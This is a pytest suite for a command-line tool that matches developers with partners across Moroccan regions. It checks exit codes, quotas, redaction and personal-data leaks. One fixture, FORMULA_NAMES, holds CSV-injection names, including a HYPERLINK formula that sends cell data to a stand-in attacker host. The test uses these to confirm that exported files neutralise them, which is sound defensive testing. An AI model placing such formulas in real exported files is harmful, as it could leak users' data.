"""End-to-end tests of the command line: exit codes, messages, and the bytes it writes."""

from __future__ import annotations

import csv
import io
import json
import random
import shutil
import tomllib
from collections import Counter
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path

import pytest
from shipped import morocco_in_person
from typer.testing import CliRunner, Result

from matcher import __version__
from matcher.cli import app
from matcher.config import MatcherConfig, load_config
from matcher.outputs import PAIRING_COLUMNS, RESULT_FILES, UNMATCHED_COLUMNS
from matcher.pipeline import REASONS
from matcher.reference import REGIONS
from matcher.synth import generate, write_call
from matcher.templates import DEVELOPER_HEADERS, PARTNER_HEADERS

ROOT = Path(__file__).resolve().parent.parent
MOROCCO = ROOT / "examples" / "morocco"
MESSY = ROOT / "examples" / "messy"
CODES = [r.code for r in REGIONS]
COMMANDS = ["validate", "regions", "init", "synth", "match", "explain", "rematch", "clubs"]
# Reasons a `match` may give (``dropped`` only comes from rematch).
MATCH_REASONS = set(REASONS) - {"dropped"}
ENV = {"COLUMNS": "200", "LINES": "200", "NO_COLOR": "1", "MATCHER_REDACT_KEY": None}

runner = CliRunner()


def run(args: Sequence[str | Path], *, env: Mapping[str, str | None] | None = None) -> Result:
    """Invoke the CLI on a wide terminal; never lets an exception escape unnoticed."""
    result = runner.invoke(app, [str(a) for a in args], env={**ENV, **(env or {})})
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result


def expect(result: Result, code: int) -> Result:
    """Assert the exit code, showing everything the command printed when it differs."""
    assert result.exit_code == code, (
        f"exit {result.exit_code}, wanted {code}\n--- stdout\n{result.stdout}"
        f"\n--- stderr\n{result.stderr}"
    )
    return result


def read_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def file_bytes(folder: Path, names: Sequence[str] = RESULT_FILES) -> dict[str, bytes]:
    return {name: (folder / name).read_bytes() for name in names}


def personal_values(folder: Path) -> list[str]:
    """Every name, email, phone and CIN of a canonical (UTF-8, comma) input folder."""
    values: list[str] = []
    for name in ("developers.csv", "partners.csv"):
        for row in read_rows(folder / name):
            values += [row[k] for k in ("name", "email", "phone") if row.get(k)]
    return values


def write_rows(path: Path, rows: Sequence[Sequence[str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\r\n").writerows(rows)


def read_table(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


# ---------------------------------------------------------------- shared runs


@dataclass(frozen=True)
class Run:
    """A finished `matcher match` run and the bytes it wrote."""

    result: Result
    out: Path
    files: dict[str, bytes]


@pytest.fixture(scope="module")
def morocco_run(tmp_path_factory: pytest.TempPathFactory) -> Run:
    out = tmp_path_factory.mktemp("morocco") / "out"
    result = expect(run(["match", MOROCCO, "--out", out]), 0)
    return Run(result, out, file_bytes(out))


@pytest.fixture(scope="module")
def small_call(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A 40 + 60 call whose quotas can all be met: 0 everywhere but 2 in Casablanca-Settat."""
    folder = tmp_path_factory.mktemp("small")
    write_call(generate(developers=40, partners=60, seed=3), folder)
    (folder / "matcher.toml").write_text(
        '[quotas]\ndefault = 0\n[quotas.regions]\n"Casablanca-Settat" = 2\n', encoding="utf-8"
    )
    return folder


@pytest.fixture
def small(small_call: Path, tmp_path: Path) -> Path:
    """A private copy of the small call, free to edit."""
    folder = tmp_path / "call"
    shutil.copytree(small_call, folder)
    return folder


# ---------------------------------------------------------------- version and help


def test_version() -> None:
    result = expect(run(["--version"]), 0)
    assert result.stdout.strip() == f"matcher {__version__}"


def _registered() -> dict[str, str]:
    """Every command of the app with the first line of its docstring."""
    out: dict[str, str] = {}
    for command in app.registered_commands:
        assert command.callback is not None and command.callback.__doc__
        name = command.name or command.callback.__name__
        out[name] = command.callback.__doc__.strip().splitlines()[0]
    return out


def test_top_help_lists_every_command() -> None:
    registered = _registered()
    assert set(COMMANDS) <= set(registered)
    result = expect(run(["--help"]), 0)
    lines = result.stdout.splitlines()
    for name, summary in registered.items():
        assert any(line.strip("│ ").startswith(f"{name} ") for line in lines), name
        assert summary in result.stdout, name


def test_no_arguments_shows_the_help() -> None:
    result = run([])
    assert result.exit_code in (0, 2)
    assert "validate" in result.output and "match" in result.output


@pytest.mark.parametrize(
    ("command", "options"),
    [
        ("validate", ["--developers", "--partners", "--config", "--json"]),
        ("regions", ["--json"]),
        ("init", ["--lang"]),
        ("synth", ["--out", "--developers", "--partners", "--seed", "--force"]),
        (
            "match",
            ["--out", "--dry-run", "--strict", "--force", "--json", "--contacts", "--redact"],
        ),
        ("explain", ["--developer", "--partner", "--pair"]),
        ("rematch", ["--drop"]),
    ],
)
def test_every_command_has_its_own_help(command: str, options: list[str]) -> None:
    result = expect(run([command, "--help"]), 0)
    assert f"Usage: matcher {command} " in result.stdout
    assert _registered()[command] in result.stdout
    for option in options:
        assert option in result.stdout, option


def test_unknown_command_is_a_usage_error() -> None:
    assert run(["matchh"]).exit_code == 2


# ---------------------------------------------------------------- validate


def test_validate_morocco_summary() -> None:
    result = expect(run(["validate", MOROCCO]), 0)
    for code in CODES:
        assert code in result.stdout, code
    total = next(line for line in result.stdout.splitlines() if "Total" in line)
    assert "600" in total and "900" in total
    assert "ok: 600 developers and 900 partners are valid" in result.stdout


def test_validate_morocco_prints_no_personal_value() -> None:
    result = expect(run(["validate", MOROCCO]), 0)
    values = personal_values(MOROCCO)
    assert len(values) > 1000
    leaked = [v for v in values if v in result.output]
    assert not leaked, leaked[:5]


def test_validate_messy_warns_about_cin_without_its_values() -> None:
    result = expect(run(["validate", MESSY]), 0)
    assert "ok: 60 developers and 80 partners are valid" in result.stdout
    warnings = [line for line in result.stderr.splitlines() if line.startswith("warning")]
    assert any('"CIN"' in line and "ignores" in line for line in warnings), result.stderr
    raw = (MESSY / "developers.csv").read_bytes().decode("cp1252")
    header = next(csv.reader(io.StringIO(raw), delimiter=";"))
    cin = header.index("CIN")
    rows = list(csv.reader(io.StringIO(raw), delimiter=";"))[1:]
    cins = [row[cin] for row in rows]
    assert len(cins) == 60 and all(c.startswith("ZZ") for c in cins)
    leaked = [c for c in cins if c in result.output]
    assert not leaked, leaked[:5]
    names = [row[header.index("nom")] for row in rows]
    assert not [n for n in names if n in result.output]


def test_validate_json() -> None:
    result = expect(run(["validate", MOROCCO, "--json"]), 0)
    data = json.loads(result.stdout)
    assert data["ok"] is True
    assert data["errors"] == []
    assert [r["code"] for r in data["regions"]] == CODES
    assert sum(r["developers"] for r in data["regions"]) == 600
    assert sum(r["partners"] for r in data["regions"]) == 900
    for region in data["regions"]:
        assert sum(region["partners_by_kind"].values()) == region["partners"]


def test_validate_messy_json_carries_the_warning() -> None:
    data = json.loads(expect(run(["validate", MESSY, "--json"]), 0).stdout)
    assert data["ok"] is True
    assert len(data["regions"]) == 12
    assert any(w["column"] == "CIN" or "CIN" in w["message"] for w in data["warnings"])


@pytest.fixture
def invalid_call(small: Path) -> Path:
    """The small call with a pre-2015 region on row 3 and a duplicate id on row 5."""
    rows = read_table(small / "developers.csv")
    header = rows[0]
    rows[2][header.index("region")] = "Souss-Massa-Drâa"
    rows[4][header.index("id")] = rows[1][header.index("id")]
    write_rows(small / "developers.csv", rows)
    return small


def test_validate_invalid_folder_lists_every_problem(invalid_call: Path) -> None:
    result = expect(run(["validate", invalid_call]), 3)
    err = result.stderr
    assert (
        'developers.csv, row 3, column "region": "Souss-Massa-Drâa" is a pre-2015 region name; '
        'did you mean "Souss-Massa"?'
    ) in err
    assert 'developers.csv, row 5, column "id"' in err
    assert "already used on row 2" in err
    leaked = [v for v in personal_values(invalid_call) if v in result.output]
    assert not leaked, leaked[:5]


def test_validate_invalid_folder_json(invalid_call: Path) -> None:
    result = expect(run(["validate", invalid_call, "--json"]), 3)
    data = json.loads(result.stdout)
    assert data["ok"] is False
    found = {(e["file"], e["row"], e["column"]) for e in data["errors"]}
    assert ("developers.csv", 3, "region") in found
    assert ("developers.csv", 5, "id") in found


def test_validate_bad_config_exits_3_with_the_key(small: Path) -> None:
    (small / "matcher.toml").write_text("[rulez]\nmin_score = 3\n", encoding="utf-8")
    result = expect(run(["validate", small]), 3)
    assert 'matcher.toml, key "rulez": unknown key; did you mean "rules"?' in result.stderr
    data = json.loads(expect(run(["validate", small, "--json"]), 3).stdout)
    assert data["ok"] is False
    assert [(e["file"], e["column"], e["code"]) for e in data["errors"]] == [
        ("matcher.toml", "rulez", "unknown_key")
    ]


# ---------------------------------------------------------------- regions


def test_regions_lists_the_twelve_codes() -> None:
    result = expect(run(["regions"]), 0)
    for region in REGIONS:
        assert region.code in result.stdout
        assert region.name in result.stdout
    assert "MA-13" not in result.stdout


def test_regions_json() -> None:
    data = json.loads(expect(run(["regions", "--json"]), 0).stdout)
    assert [r["code"] for r in data] == CODES
    draa = data[7]
    assert draa["name"] == "Drâa-Tafilalet"
    assert draa["hcp_code"] == "08"
    assert "Draa-Tafilalet" in draa["accepted"]


# ---------------------------------------------------------------- init


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_init_writes_headers_in_the_language(tmp_path: Path, lang: str) -> None:
    folder = tmp_path / "new"
    expect(run(["init", folder, "--lang", lang]), 0)
    assert sorted(p.name for p in folder.iterdir()) == [
        "developers.csv",
        "matcher.toml",
        "partners.csv",
    ]
    dev_header = (folder / "developers.csv").read_text(encoding="utf-8").splitlines()
    par_header = (folder / "partners.csv").read_text(encoding="utf-8").splitlines()
    assert dev_header == [",".join(DEVELOPER_HEADERS[lang])]  # type: ignore[index]
    assert par_header == [",".join(PARTNER_HEADERS[lang])]  # type: ignore[index]
    if lang == "fr":
        assert dev_header[0].startswith("identifiant,nom,genre,région")
        assert "besoins" in par_header[0]
    else:
        assert dev_header[0].startswith("id,name,gender,region")
        assert "needs" in par_header[0]
    assert tomllib.loads((folder / "matcher.toml").read_text(encoding="utf-8"))
    assert load_config(folder / "matcher.toml") == MatcherConfig()


def test_init_default_language_is_french(tmp_path: Path) -> None:
    expect(run(["init", tmp_path / "x"]), 0)
    assert (tmp_path / "x" / "developers.csv").read_text(encoding="utf-8").startswith("identifiant")


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_init_templates_validate_once_filled(tmp_path: Path, lang: str) -> None:
    folder = tmp_path / "new"
    expect(run(["init", folder, "--lang", lang]), 0)
    dev = {
        "fr": "D-1,Amal,femme,Fès-Meknès,,web;seo,darija;français,textile,10,1,régional,,",
        "en": "D-1,Amal,female,Fès-Meknès,,web;seo,ary;fr,textiles,10,1,region,,",
    }[lang]
    par = {
        "fr": "P-1,Coop Atlas,artisan,textile,Fès-Meknès,,web,darija,10,,",
        "en": "P-1,Coop Atlas,artisan,textiles,Fès-Meknès,,web,ary,10,,",
    }[lang]
    with (folder / "developers.csv").open("a", encoding="utf-8") as handle:
        handle.write(dev + "\n")
    with (folder / "partners.csv").open("a", encoding="utf-8") as handle:
        handle.write(par + "\n")
    data = json.loads(expect(run(["validate", folder, "--json"]), 0).stdout)
    assert data["ok"] is True
    fes = next(r for r in data["regions"] if r["code"] == "MA-03")
    assert (fes["developers"], fes["partners"]) == (1, 1)


@pytest.mark.parametrize("existing", ["developers.csv", "partners.csv", "matcher.toml"])
def test_init_refuses_to_overwrite_and_writes_nothing(tmp_path: Path, existing: str) -> None:
    (tmp_path / existing).write_bytes(b"mine")
    result = expect(run(["init", tmp_path, "--lang", "en"]), 5)
    assert existing in result.stderr
    assert [p.name for p in tmp_path.iterdir()] == [existing]
    assert (tmp_path / existing).read_bytes() == b"mine"


def test_init_unknown_language_is_a_usage_error(tmp_path: Path) -> None:
    result = expect(run(["init", tmp_path / "x", "--lang", "de"]), 2)
    assert "--lang" in result.stderr
    assert not (tmp_path / "x").exists()


@pytest.mark.parametrize(
    "args",
    [
        ["init", "{target}"],
        ["synth", "--out", "{target}", "--developers", "3", "--partners", "3"],
        ["match", "{call}", "--out", "{target}"],
    ],
)
def test_output_path_that_is_a_file_is_a_usage_error(
    tmp_path: Path, small: Path, args: list[str]
) -> None:
    # Regression: init and synth crashed with "unexpected error: FileExistsError" (exit 1).
    target = tmp_path / "a-file"
    target.write_bytes(b"keep")
    filled = [a.format(target=target, call=small) for a in args]
    result = expect(run(filled), 2)
    assert "exists and is not a folder" in result.stderr
    assert target.read_bytes() == b"keep"


# ---------------------------------------------------------------- synth


def test_synth_is_deterministic_and_refuses_overwrite(tmp_path: Path) -> None:
    args = ["--developers", "40", "--partners", "60", "--seed", "3"]
    expect(run(["synth", "--out", tmp_path / "a", *args]), 0)
    expect(run(["synth", "--out", tmp_path / "b", *args]), 0)
    names = ["developers.csv", "partners.csv"]
    first, second = file_bytes(tmp_path / "a", names), file_bytes(tmp_path / "b", names)
    assert first == second
    assert len(read_rows(tmp_path / "a" / "developers.csv")) == 40
    assert len(read_rows(tmp_path / "a" / "partners.csv")) == 60

    other = ["--developers", "40", "--partners", "60", "--seed", "4"]
    expect(run(["synth", "--out", tmp_path / "a", *other]), 5)
    assert file_bytes(tmp_path / "a", names) == first
    expect(run(["synth", "--out", tmp_path / "a", *other, "--force"]), 0)
    assert file_bytes(tmp_path / "a", names) != first


# ---------------------------------------------------------------- match: preview


def test_match_dry_run_previews_and_writes_nothing(tmp_path: Path) -> None:
    out = tmp_path / "never"
    result = expect(run(["match", MOROCCO, "--dry-run", "--out", out]), 0)
    for code in CODES:
        assert code in result.stdout, code
    # The shipped rules want 10 pairs in Dakhla-Oued Ed-Dahab, which has 8 developers:
    # remote developers fill the other places.
    config = load_config(MOROCCO / "matcher.toml")
    assert config.quota("MA-12") == (10, 10)
    assert "Shortfalls" not in result.stdout
    assert "nothing was written" in result.stdout
    assert not out.exists()
    leaked = [v for v in personal_values(MOROCCO) if v in result.output]
    assert not leaked, leaked[:5]


def test_match_dry_run_names_the_shortfalls(tmp_path: Path) -> None:
    folder = morocco_in_person(tmp_path)
    result = expect(run(["match", folder, "--dry-run"]), 0)
    shortfall = result.stdout.split("Shortfalls", 1)[1]
    assert "Dakhla-Oued Ed-Dahab" in shortfall


def test_match_json_is_clean_and_agrees_with_the_files(tmp_path: Path, morocco_run: Run) -> None:
    result = expect(run(["match", MOROCCO, "--json", "--dry-run", "--out", tmp_path / "o"]), 0)
    data = json.loads(result.stdout)
    assert [r["code"] for r in data["regions"]] == CODES
    assert data["written"] == []
    rows = read_rows(morocco_run.out / "pairings.csv")
    assert len(data["pairs"]) == len(rows) == data["optimality"]["filled"]
    assert {(p["developer_id"], p["partner_id"]) for p in data["pairs"]} == {
        (r["developer_id"], r["partner_id"]) for r in rows
    }
    for region in data["regions"]:
        assert region["filled"] == sum(1 for r in rows if r["region_code"] == region["code"])
    dakhla = data["regions"][11]
    assert (dakhla["shortfall"], dakhla["diagnosis"]) == (0, None)
    assert sum(p["remote"] for p in data["pairs"] if p["region"] == "MA-12") == 2
    assert not (tmp_path / "o").exists()
    leaked = [v for v in personal_values(MOROCCO) if v in result.stdout]
    assert not leaked, leaked[:5]


# ---------------------------------------------------------------- match: writing


def test_match_writes_the_three_files(morocco_run: Run) -> None:
    assert sorted(p.name for p in morocco_run.out.iterdir()) == sorted(RESULT_FILES)
    assert "wrote" in morocco_run.result.stdout
    pairings = read_table(morocco_run.out / "pairings.csv")
    assert pairings[0] == PAIRING_COLUMNS
    assert len(pairings) > 100
    assert read_table(morocco_run.out / "unmatched.csv")[0] == UNMATCHED_COLUMNS
    manifest = json.loads(morocco_run.files["manifest.json"])
    assert manifest["counts"]["pairs"] == len(pairings) - 1


def test_match_refuses_to_overwrite_then_force_gives_the_same_bytes(
    tmp_path: Path, morocco_run: Run
) -> None:
    out = tmp_path / "out"
    shutil.copytree(morocco_run.out, out)
    result = expect(run(["match", MOROCCO, "--out", out]), 5)
    assert "--force" in result.stderr
    assert file_bytes(out) == morocco_run.files
    expect(run(["match", MOROCCO, "--out", out, "--force"]), 0)
    # A second run over the same inputs writes byte-identical files.
    again = file_bytes(out)
    for name in RESULT_FILES:
        assert again[name] == morocco_run.files[name], name


def test_every_person_appears_exactly_once(morocco_run: Run) -> None:
    pairs = read_rows(morocco_run.out / "pairings.csv")
    unmatched = read_rows(morocco_run.out / "unmatched.csv")
    paired_devs = Counter(r["developer_id"] for r in pairs)
    paired_pars = Counter(r["partner_id"] for r in pairs)
    unpaired = Counter((r["side"], r["id"]) for r in unmatched)
    assert max(paired_devs.values()) == 1 and max(paired_pars.values()) == 1
    assert max(unpaired.values()) == 1
    for side, file, paired in (
        ("developer", "developers.csv", paired_devs),
        ("partner", "partners.csv", paired_pars),
    ):
        ids = [r["id"] for r in read_rows(MOROCCO / file)]
        left = {i for s, i in unpaired if s == side}
        assert not set(paired) & left
        assert set(paired) | left == set(ids)
        assert len(paired) + len(left) == len(ids)
    for row in unmatched:
        assert row["reason"] in MATCH_REASONS, row["reason"]
        assert row["detail"], row["id"]
    assert {r["side"] for r in unmatched} == {"developer", "partner"}


def test_pairs_respect_the_quotas(morocco_run: Run) -> None:
    config = load_config(MOROCCO / "matcher.toml")
    per_region = Counter(r["region_code"] for r in read_rows(morocco_run.out / "pairings.csv"))
    for code in CODES:
        assert per_region[code] <= config.quota(code)[1], code


def test_contacts_are_absent_by_default(morocco_run: Run) -> None:
    for name in ("pairings.csv", "unmatched.csv"):
        data = morocco_run.files[name]
        assert b"@example.ma" not in data
        assert b"+212" not in data and b"email" not in data and b"phone" not in data


def test_shuffled_rows_give_the_same_files(tmp_path: Path, morocco_run: Run) -> None:
    shuffled = tmp_path / "shuffled"
    shuffled.mkdir()
    rng = random.Random(20260101)
    for name in ("developers.csv", "partners.csv"):
        rows = read_table(MOROCCO / name)
        body = rows[1:]
        rng.shuffle(body)
        assert body != rows[1:]
        write_rows(shuffled / name, [rows[0], *body])
    shutil.copy(MOROCCO / "matcher.toml", shuffled / "matcher.toml")
    out = tmp_path / "out"
    expect(run(["match", shuffled, "--out", out]), 0)
    for name in ("pairings.csv", "unmatched.csv"):
        assert (out / name).read_bytes() == morocco_run.files[name], name


def test_strict_with_a_shortfall_exits_4_and_writes_nothing(tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = expect(run(["match", morocco_in_person(tmp_path), "--strict", "--out", out]), 4)
    assert "Dakhla-Oued Ed-Dahab" in result.stderr
    assert "nothing was written" in result.stderr
    assert not out.exists()


def test_strict_when_every_quota_is_met_exits_0(small: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    expect(run(["match", small, "--strict", "--out", out]), 0)
    rows = read_rows(out / "pairings.csv")
    assert [r["region_code"] for r in rows] == ["MA-06", "MA-06"]
    manifest = json.loads((out / "manifest.json").read_bytes())
    assert all(r["shortfall"] == 0 for r in manifest["regions"])


def test_strict_json_exit_4_says_nothing_written(tmp_path: Path, small: Path) -> None:
    (small / "matcher.toml").write_text("[quotas]\ndefault = 1000\n", encoding="utf-8")
    out = tmp_path / "out"
    result = expect(run(["match", small, "--strict", "--json", "--out", out]), 4)
    data = json.loads(result.stdout)
    assert data["written"] == []
    assert not out.exists()


# ---------------------------------------------------------------- personal data


FORMULA_NAMES = {
    "D-0001": '=HYPERLINK("http://evil.example/?q="&A1,"clic")',
    "D-0002": "+212 Ali",
    "D-0003": "@Sara",
    "D-0004": "-1+Omar",
    "P-0001": "=1+1 Coop",
}


def test_formula_like_names_are_written_as_text(small: Path, tmp_path: Path) -> None:
    (small / "matcher.toml").write_text("[quotas]\ndefault = 5\n", encoding="utf-8")
    for file in ("developers.csv", "partners.csv"):
        table = read_table(small / file)
        for line in table[1:]:
            line[1] = FORMULA_NAMES.get(line[0], line[1])
        write_rows(small / file, table)
    out = tmp_path / "out"
    expect(run(["match", small, "--out", out]), 0)

    seen: dict[str, str] = {}
    for row in read_rows(out / "pairings.csv"):
        seen[row["developer_id"]] = row["developer_name"]
        seen[row["partner_id"]] = row["partner_name"]
    for row in read_rows(out / "unmatched.csv"):
        seen[row["id"]] = row["name"]
    for person, name in FORMULA_NAMES.items():
        assert seen[person] == "'" + name, person
    raw = (out / "pairings.csv").read_bytes() + (out / "unmatched.csv").read_bytes()
    for name in FORMULA_NAMES.values():
        bare = name.replace('"', '""').encode()
        assert b"," + bare not in raw and b',"' + bare not in raw, name
    for cells in read_table(out / "pairings.csv") + read_table(out / "unmatched.csv"):
        for cell in cells:
            assert not cell.startswith(("=", "+", "@")), cell


def test_contacts_are_written_only_on_request(small: Path, tmp_path: Path) -> None:
    expect(run(["match", small, "--out", tmp_path / "plain"]), 0)
    expect(run(["match", small, "--out", tmp_path / "contacts", "--contacts"]), 0)
    plain = (tmp_path / "plain" / "pairings.csv").read_bytes()
    assert b"@example.ma" not in plain
    rows = read_rows(tmp_path / "contacts" / "pairings.csv")
    assert rows
    devs = {r["id"]: r for r in read_rows(small / "developers.csv")}
    for row in rows:
        dev = devs[row["developer_id"]]
        assert row["developer_email"] == dev["email"]
        assert row["developer_phone"] in (dev["phone"], "'" + dev["phone"])
    assert json.loads((tmp_path / "contacts" / "manifest.json").read_bytes())["options"]["contacts"]


def test_bom_option_starts_both_csv_files_with_a_bom(small: Path, tmp_path: Path) -> None:
    expect(run(["match", small, "--out", tmp_path / "plain"]), 0)
    expect(run(["match", small, "--out", tmp_path / "bom", "--bom"]), 0)
    for name in ("pairings.csv", "unmatched.csv"):
        plain = (tmp_path / "plain" / name).read_bytes()
        assert not plain.startswith(b"\xef\xbb\xbf")
        assert (tmp_path / "bom" / name).read_bytes() == b"\xef\xbb\xbf" + plain


@pytest.mark.parametrize("key", [None, "", "short"])
def test_redact_without_a_key_is_a_usage_error(
    small: Path, tmp_path: Path, key: str | None
) -> None:
    out = tmp_path / "out"
    result = expect(
        run(["match", small, "--out", out, "--redact"], env={"MATCHER_REDACT_KEY": key}), 2
    )
    assert "MATCHER_REDACT_KEY" in result.stderr
    assert not out.exists()


def test_redact_replaces_names_by_stable_pseudonyms(small: Path, tmp_path: Path) -> None:
    (small / "matcher.toml").write_text("[quotas]\ndefault = 3\n", encoding="utf-8")
    env = {"MATCHER_REDACT_KEY": "a-secret-of-the-programme"}
    for name in ("a", "b"):
        expect(run(["match", small, "--out", tmp_path / name, "--redact"], env=env), 0)
    names = ("pairings.csv", "unmatched.csv")
    first, second = file_bytes(tmp_path / "a", names), file_bytes(tmp_path / "b", names)
    assert first == second
    pairs = read_rows(tmp_path / "a" / "pairings.csv")
    unmatched = read_rows(tmp_path / "a" / "unmatched.csv")
    assert pairs and unmatched
    shown = [r["developer_name"] for r in pairs] + [r["partner_name"] for r in pairs]
    shown += [r["name"] for r in unmatched]
    assert all(n.startswith("anon-") and len(n) == 15 for n in shown), shown[:5]
    assert len(set(shown)) == len(shown)
    raw = first["pairings.csv"] + first["unmatched.csv"]
    leaked = [v for v in personal_values(small) if v.encode() in raw]
    assert not leaked, leaked[:5]


# ---------------------------------------------------------------- bad input


def test_missing_required_column_exits_3_and_writes_nothing(small: Path, tmp_path: Path) -> None:
    rows = read_table(small / "developers.csv")
    skills = rows[0].index("skills")
    write_rows(
        small / "developers.csv", [[c for i, c in enumerate(r) if i != skills] for r in rows]
    )
    out = tmp_path / "out"
    result = expect(run(["match", small, "--out", out]), 3)
    assert "developers.csv" in result.stderr
    assert "missing required columns: skills" in result.stderr
    assert "compétences" in result.stderr  # the accepted names of the missing column
    assert not out.exists()


def test_bad_config_stops_match_before_writing(small: Path, tmp_path: Path) -> None:
    (small / "matcher.toml").write_text('[rules]\ncross_region = "sometimes"\n', encoding="utf-8")
    out = tmp_path / "out"
    result = expect(run(["match", small, "--out", out]), 3)
    assert 'key "rules.cross_region"' in result.stderr
    assert '"remote-only"' in result.stderr
    assert not out.exists()


@pytest.mark.parametrize("command", ["validate", "match"])
def test_missing_folder_is_a_usage_error(tmp_path: Path, command: str) -> None:
    result = expect(run([command, tmp_path / "nowhere"]), 2)
    assert "nowhere" in result.stderr and "not a folder" in result.stderr


@pytest.mark.parametrize("command", ["validate", "match"])
def test_missing_file_is_a_usage_error(small: Path, tmp_path: Path, command: str) -> None:
    result = expect(
        run(
            [
                command,
                "--developers",
                small / "developers.csv",
                "--partners",
                small / "absent.csv",
                "--out" if command == "match" else "--json",
                *([tmp_path / "out"] if command == "match" else []),
            ]
        ),
        2,
    )
    assert "absent.csv does not exist" in result.stderr
    assert not (tmp_path / "out").exists()


def test_folder_without_a_developers_file_is_a_usage_error(small: Path, tmp_path: Path) -> None:
    (small / "developers.csv").unlink()
    result = expect(run(["match", small, "--out", tmp_path / "out"]), 2)
    assert "no developers file" in result.stderr
    assert not (tmp_path / "out").exists()


def test_neither_folder_nor_files_is_a_usage_error() -> None:
    result = expect(run(["validate"]), 2)
    assert "--developers" in result.stderr


def test_excel_layout_for_french_excel_and_read_back(small: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    expect(run(["match", small, "--out", out, "--excel"]), 0)
    plain = tmp_path / "plain"
    expect(run(["match", small, "--out", plain]), 0)
    data = (out / "pairings.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf" + b"region_code;region;developer_id;")
    excel_rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    plain_rows = read_rows(plain / "pairings.csv")
    assert [r["partner_id"] for r in excel_rows] == [r["partner_id"] for r in plain_rows]
    # same numbers, with decimal commas
    assert [r["score"] for r in excel_rows] == [r["score"].replace(".", ",") for r in plain_rows]
    assert all("," in r["score"] and "." not in r["score"] for r in excel_rows)
    # explain and --lock read the Excel layout back
    some = excel_rows[0]["developer_id"]
    shown = expect(run(["explain", out, "--developer", some, "--json"]), 0)
    assert json.loads(shown.stdout)["partner_of"] == excel_rows[0]["partner_id"]
    relocked = tmp_path / "relocked"
    expect(run(["match", small, "--out", relocked, "--lock", out / "pairings.csv"]), 0)
    locked = {
        (r["developer_id"], r["partner_id"])
        for r in read_rows(relocked / "pairings.csv")
        if r["locked"] == "yes"
    }
    assert locked == {(r["developer_id"], r["partner_id"]) for r in excel_rows}


def test_validate_says_how_many_pairs_each_region_can_form(tmp_path: Path) -> None:
    folder = morocco_in_person(tmp_path)
    result = expect(run(["validate", folder, "--json"]), 0)
    rows = {r["code"]: r for r in json.loads(result.stdout)["regions"]}
    match = expect(run(["match", folder, "--dry-run", "--json"]), 0)
    filled = {r["code"]: r["filled"] for r in json.loads(match.stdout)["regions"]}
    assert {code: r["possible"] for code, r in rows.items()} == filled
    assert (rows["MA-12"]["wanted_max"], rows["MA-12"]["short"]) == (10, 10 - filled["MA-12"])
    text = expect(run(["validate", folder]), 0)
    assert "Possible" in text.stdout
    assert "1 region(s) cannot reach their quota" in text.stdout
    shipped = expect(run(["validate", MOROCCO]), 0)
    assert "cannot reach their quota" not in shipped.stdout


def test_validate_diagnose_names_the_change_that_fills(tmp_path: Path) -> None:
    folder = morocco_in_person(tmp_path)
    plain = json.loads(expect(run(["validate", folder, "--json"]), 0).stdout)
    assert all("diagnosis" not in r for r in plain["regions"])
    data = json.loads(expect(run(["validate", folder, "--json", "--diagnose"]), 0).stdout)
    rows = {r["code"]: r for r in data["regions"]}
    match = json.loads(expect(run(["match", folder, "--dry-run", "--json"]), 0).stdout)
    dakhla = next(r for r in match["regions"] if r["code"] == "MA-12")
    assert rows["MA-12"]["diagnosis"] == dakhla["diagnosis"]
    assert "allowing remote pairs up to" in dakhla["diagnosis"]
    assert all(r["diagnosis"] is None for code, r in rows.items() if code != "MA-12")
    text = expect(run(["validate", folder, "--diagnose"]), 0).stdout
    assert "1 region(s) cannot reach their quota:" in text
    assert "fills 10 of 10" in text.replace("\n", " ")
    hint = expect(run(["validate", folder]), 0).stdout
    assert "`matcher validate --diagnose` says why" in hint


def test_validate_diagnose_needs_the_quota_check() -> None:
    result = expect(run(["validate", MOROCCO, "--no-quotas", "--diagnose"]), 2)
    assert "--diagnose needs the quota check" in result.stderr


def test_validate_no_quotas_skips_the_solve() -> None:
    result = expect(run(["validate", MOROCCO, "--no-quotas", "--json"]), 0)
    assert all("possible" not in r for r in json.loads(result.stdout)["regions"])
    assert "Possible" not in expect(run(["validate", MOROCCO, "--no-quotas"]), 0).stdout


def test_morocco_regions_with_enough_supply_get_ten_and_the_others_are_diagnosed(
    tmp_path: Path,
) -> None:
    data = json.loads(
        expect(run(["match", morocco_in_person(tmp_path), "--dry-run", "--json"]), 0).stdout
    )
    for region in data["regions"]:
        enough = region["developers"] >= 10 and region["partners"] >= 10
        if enough:
            assert region["filled"] == 10, region["code"]
            assert region["diagnosis"] is None
        else:
            assert region["filled"] < 10
            assert region["diagnosis"].startswith(f"{region['name']}: 10 wanted, ")
    assert [r["code"] for r in data["regions"] if r["shortfall"]] == ["MA-12"]


def test_morocco_remote_developers_fill_every_region() -> None:
    data = json.loads(expect(run(["match", MOROCCO, "--dry-run", "--json"]), 0).stdout)
    assert [(r["code"], r["filled"]) for r in data["regions"]] == [(c, 10) for c in CODES]
    remote = [p for p in data["pairs"] if p["remote"]]
    assert remote and all(p["cross_region"] for p in remote)


def test_morocco_drop_three_and_nobody_else_moves(morocco_run: Run, tmp_path: Path) -> None:
    before = read_rows(morocco_run.out / "pairings.csv")
    dropped = [before[0]["developer_id"], before[5]["partner_id"], before[-1]["developer_id"]]
    out = tmp_path / "after"
    expect(run(["rematch", morocco_run.out, "--drop", ",".join(dropped), "--out", out]), 0)
    after = {(r["developer_id"], r["partner_id"]): r for r in read_rows(out / "pairings.csv")}
    untouched = [
        (r["developer_id"], r["partner_id"])
        for r in before
        if r["developer_id"] not in dropped and r["partner_id"] not in dropped
    ]
    assert len(untouched) == len(before) - 3
    assert all(after[pair]["locked"] == "yes" for pair in untouched)
    assert not {p for pair in after for p in pair} & set(dropped)
